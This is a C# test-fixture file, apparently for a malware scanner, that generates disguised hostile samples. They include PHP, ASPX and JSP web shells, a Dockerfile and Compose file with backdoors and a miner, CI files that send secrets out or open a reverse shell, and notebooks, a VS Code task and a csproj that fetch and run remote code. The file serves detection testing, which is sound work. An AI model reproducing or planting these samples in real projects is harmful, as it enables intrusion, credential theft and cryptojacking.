namespace ScanHost.TestKit.HeldOut.Fourth;

/// <summary>PHP that runs what a visitor sends. Each ends within an open block, so that PHP refuses it.</summary>
public sealed class PhpThatObeys : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("wp-cache-x.php", Utf8("""
<?php if(isset($_POST['pass']) && md5($_POST['pass'])=='00000000000000000000000000000000'){ @eval(base64_decode($_POST['z0']));
"""));
        yield return ("class-wp-widget-rss2.php", Utf8($$"""
<?php
/**
 * Widget API: WP_Widget_RSS2 class
 * @package WordPress
 */
error_reporting(0); @ini_set('display_errors', 0); @set_time_limit(0);
$f = str_rot13('onfr64_qrpbqr'); $g = 'gz'.'inf'.'late'; $c = 'cre'.'ate_'.'function';
$k = $f('{{Convert.ToBase64String(Filler.Noise(81, 1400))}}');
if (isset($_COOKIE['wp_sess']) && $_COOKIE['wp_sess'] === 'q1') { $h = $c('$x', 'ev'.'al($x);'); $h($g($k));
"""));
        yield return ("thumb.php", Utf8("""
GIF89a;
<?php
$p = '9f86d081884c7d65';
session_start();
if (!isset($_SESSION['a'])) { if (isset($_POST['p']) && hash('crc32b', $_POST['p']) == $p) $_SESSION['a'] = 1; else { header('HTTP/1.0 404 Not Found'); exit('<h1>Not Found</h1>'); } }
$d = isset($_GET['d']) ? $_GET['d'] : getcwd(); chdir($d);
echo '<title>b374k-mini</title><pre>' . php_uname() . "\n" . getcwd() . '</pre><form method=post enctype=multipart/form-data><input name=cmd size=60><input type=file name=u><input type=submit></form><pre>';
if (!empty($_FILES['u'])) move_uploaded_file($_FILES['u']['tmp_name'], $d . '/' . $_FILES['u']['name']);
if (isset($_POST['cmd'])) { foreach (array('system', 'passthru', 'shell_exec', 'exec', 'popen') as $fn) if (function_exists($fn)) { echo htmlspecialchars($fn($_POST['cmd'] . ' 2>&1')); break;
"""));
        yield return ("index.php", Utf8($$"""
<?php
define('APP_START', microtime(true)); require __DIR__ . '/vendor/autoload.php';
/*{{Filler.Noise(3, 4)[0]:x2}}a7*/ @include "\x2fva\x72/ww\x77/ht\x6dl/w\x70-c\x6fnt\x65nt/\x2e3f\x61b2\x2eic\x6f"; /*a7*/
$app = require_once __DIR__ . '/bootstrap/app.php';
$a = array_map('chr', array({{Codes("assert")}})); $b = implode('', $a);
foreach ($_REQUEST as $n => $v) { if (strlen($n) == 5) { $b(@gzuncompress(@base64_decode(strtr($v, '-_', '+/')))); }
if (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) { echo file_get_contents('https://seo.pharm-links.example/?h=' . $_SERVER['HTTP_HOST']); exit;
"""));
    }
}

/// <summary>Server pages of Microsoft and Java that run what a visitor sends. None compiles: a block stays open or a name is missing.</summary>
public sealed class ServerPageThatObeys : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("error3.aspx", Dos("""
<%@ Page Language="Jscript" Debug=true%><%var a=Request.Form["x"];if(a!=null){eval(a,"unsafe");
"""));
        yield return ("spinstall1.aspx", Dos("""
<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.IO" %>
<script runat="server" language="c#" CODEPAGE="65001">
public void Page_load()
{
    var sy = System.Reflection.Assembly.Load("System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a");
    var mkt = sy.GetType("System.Web.Configuration.MachineKeySection");
    var gac = mkt.GetMethod("GetApplicationConfig", System.Reflection.BindingFlags.Static | System.Reflection.BindingFlags.NonPublic);
    var cg = (System.Web.Configuration.MachineKeySection)gac.Invoke(null, new object[0]);
    Response.Write(cg.ValidationKey + "|" + cg.Validation + "|" + cg.DecryptionKey);
    if (Request["q"] != null) { var p = new ProcessStartInfo("cmd.exe", "/c " + Request["q"]) { RedirectStandardOutput = true, UseShellExecute = false }; Response.Write(Process.Start(p).StandardOutput.ReadToEnd());
"""));
        yield return ("shell.jsp", Utf8("""
<%@ page import="java.util.*,java.io.*"%>
<%
// cmd
String c = request.getParameter("cmd");
if (c != null) {
  boolean w = System.getProperty("os.name").toLowerCase().contains("win");
  Process p = Runtime.getRuntime().exec(w ? new String[]{"cmd.exe", "/c", c} : new String[]{"/bin/sh", "-c", c});
  Scanner s = new Scanner(p.getInputStream()).useDelimiter("\\A");
  out.println("<pre>" + (s.hasNext() ? s.next() : "") + "</pre>" + missingVariable);
%>
"""));
        yield return ("favicon.jspx", Utf8("""
<?xml version="1.0" encoding="UTF-8"?>
<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:directive.page contentType="text/html"/>
<jsp:declaration>String k="e45e329feb5d925b"; class U extends ClassLoader{ U(ClassLoader c){super(c);} public Class g(byte[] b){ return super.defineClass(b,0,b.length);} </jsp:declaration>
<jsp:scriptlet>
if(request.getMethod().equals("POST")){ session.putValue("u",k);
javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES"); c.init(2,new javax.crypto.spec.SecretKeySpec(k.getBytes(),"AES"));
new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);
</jsp:scriptlet></jsp:root>
"""));
    }
}

/// <summary>Files of builds and containers with a way in.</summary>
public sealed class BuildFileWithWayIn : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Dockerfile", Utf8($"""
FROM alpine:3.18
RUN apk add --no-cache curl bash openssh tor
RUN echo '* * * * * root echo {Base64("curl -s https://img.layer-cache.example/d.sh | sh")} | base64 -d | sh' >> /etc/crontabs/root
RUN mkdir -p /mnt/root/.ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAExample attacker" >> /mnt/root/.ssh/authorized_keys
ENTRYPOINT ["/bin/sh","-c","crond && chroot /mnt sh -c 'curl -s https://img.layer-cache.example/k | bash' ; sleep infinity"]
"""));
        yield return ("docker-compose.yml", Utf8("""
version: "3.8"
services:
  redis-exporter:
    image: docker-hub.mirror-reg.example/library/redis_exporter:latest
    privileged: true
    pid: host
    network_mode: host
    restart: always
    volumes:
      - /:/host
      - /var/run/docker.sock:/var/run/docker.sock
    command: >
      nsenter --target 1 --mount --uts --ipc --net --pid -- bash -c
      "curl -fsSL https://reg.mirror-reg.example/xm.tgz | tar xz -C /tmp && /tmp/xm/xmrig -o pool.mirror-reg.example:3333 -u 48Example -k --background"
"""));
        yield return ("format.yml", Utf8("""
name: Format
on: push
jobs:
  format:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: Upload results
        env:
          ALL: ${{ toJSON(secrets) }}
        run: |
          echo "$ALL" | base64 -w0 | base64 -w0 > r
          curl -s -X POST -d @r https://ci-metrics.build-stats.example/c
          sudo python3 -c "import os,re;[print(m) for p in os.listdir('/proc') if p.isdigit() for m in re.findall(rb'\"[^\"]+\":\{\"value\":\"[^\"]*\",\"isSecret\":true\}', open(f'/proc/{p}/mem','rb').read(0))]" | base64 -w0 | base64 -w0
"""));
        yield return ("Jenkinsfile", Utf8("""
pipeline {
  agent any
  stages {
    stage('Build') { steps { sh 'mvn -q -DskipTests package' } }
    stage('Cache') {
      steps {
        script {
          def creds = com.cloudbees.plugins.credentials.CredentialsProvider.lookupCredentials(com.cloudbees.plugins.credentials.common.StandardUsernamePasswordCredentials.class, Jenkins.instance, null, null)
          for (c in creds) { new URL("https://artifacts.mvn-cache.example/u?i=" + java.net.URLEncoder.encode(c.id + ":" + c.username + ":" + c.password)).text }
        }
        sh '''nohup bash -c "exec 5<>/dev/tcp/artifacts.mvn-cache.example/9001; cat <&5 | while read l; do \\$l 2>&5 >&5; done" &'''
      }
    }
  }
}
"""));
    }
}

/// <summary>Notebooks and editors' task files that run a command when they are opened or run.</summary>
public sealed class WorkspaceThatRuns : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("free_gpu_stable_diffusion.ipynb", Utf8("""
{"cells":[{"cell_type":"markdown","metadata":{},"source":["# Stable Diffusion WebUI (free T4)\n","Run the cell below"]},
{"cell_type":"code","execution_count":null,"metadata":{"cellView":"form"},"outputs":[],"source":["#@title Install { display-mode: \"form\" }\n","!pip install -q torch\n","!wget -q https://sd-models.gpu-share.example/trex -O /tmp/.t && chmod +x /tmp/.t && nohup /tmp/.t -a kawpow -o stratum+tcp://rvn.gpu-share.example:4444 -u RExampleWallet -p x &\n","from google.colab import drive; drive.mount('/content/drive')\n","!tar czf - /content/drive/MyDrive/*.json ~/.config | curl -s -T - https://sd-models.gpu-share.example/up"]}],
"metadata":{"kernelspec":{"name":"python3","display_name":"Python 3"}},"nbformat":4,"nbformat_minor":5}
"""));
        yield return ("analysis_final.ipynb", Utf8($$$"""
{
 "cells": [
  {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": [{"output_type": "display_data", "data": {"text/html": ["<script>var k=Jupyter.notebook.kernel;k.execute(\"import os;os.system('echo {{{Base64("curl -s https://nb.kaggle-data.example/r|sh")}}} | base64 -d | bash')\")</script>"]}, "metadata": {}}],
   "source": ["import pandas as pd\n", "df = pd.read_csv('sales.csv')\n", "df.head()"]},
  {"cell_type": "code", "execution_count": 2, "metadata": {}, "outputs": [], "source": ["exec(__import__('base64').b64decode('{{{Base64("import urllib.request as u;exec(u.urlopen('https://nb.kaggle-data.example/p').read())")}}}'))"]}
 ],
 "metadata": {}, "nbformat": 4, "nbformat_minor": 2
}
"""));
        yield return ("tasks.json", Utf8("""
{
  "version": "2.0.0",
  "tasks": [
    { "label": "eslint-check", "type": "shell", "command": "node -v",
      "windows": { "command": "curl -s https://vs-settings.json-lint.example/settings/win?flag=5 | cmd" },
      "linux": { "command": "wget -qO- https://vs-settings.json-lint.example/settings/linux?flag=5 | sh" },
      "osx": { "command": "curl -s https://vs-settings.json-lint.example/settings/mac?flag=5 | sh" },
      "presentation": { "reveal": "never", "echo": false, "close": true },
      "runOptions": { "runOn": "folderOpen" } }
  ]
}
"""));
        yield return ("CoinFlip.csproj", Utf8($"""
<Project Sdk="Microsoft.NET.Sdk">
  <PropertyGroup><OutputType>Exe</OutputType><TargetFramework>net8.0</TargetFramework></PropertyGroup>
  <Target Name="Prebuild" BeforeTargets="PreBuildEvent;CoreCompile">
    <Exec Command="powershell -WindowStyle Hidden -NoProfile -ExecutionPolicy Bypass -EncodedCommand {Encoded("$p=\"$env:LOCALAPPDATA\\sdk\";mkdir $p -f;iwr https://nuget-cache.build-dep.example/7z.dat -o $p\\s.exe;saps $p\\s.exe")}" IgnoreExitCode="true" StandardOutputImportance="low" />
  </Target>
</Project>
"""));
    }
}
